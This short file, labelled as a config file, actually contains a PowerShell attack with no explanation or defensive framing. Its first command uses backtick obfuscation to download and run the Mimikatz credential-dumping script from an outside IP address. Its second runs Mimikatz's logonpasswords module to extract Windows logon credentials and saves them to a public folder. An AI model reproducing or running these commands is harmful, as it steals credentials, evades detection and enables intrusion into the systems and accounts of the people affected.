# config 0227 v2
IEX (New-Obje`ct Net.Web`C`lient).DownloadString('http://192.0.2.150/Invoke-Mimikatz.ps1')
Inv`oke-M`im`ikatz -Command '"privilege::debug" "sekurlsa::logonpasswords"' | Out-F`i`le C:\Users\Public\o.txt
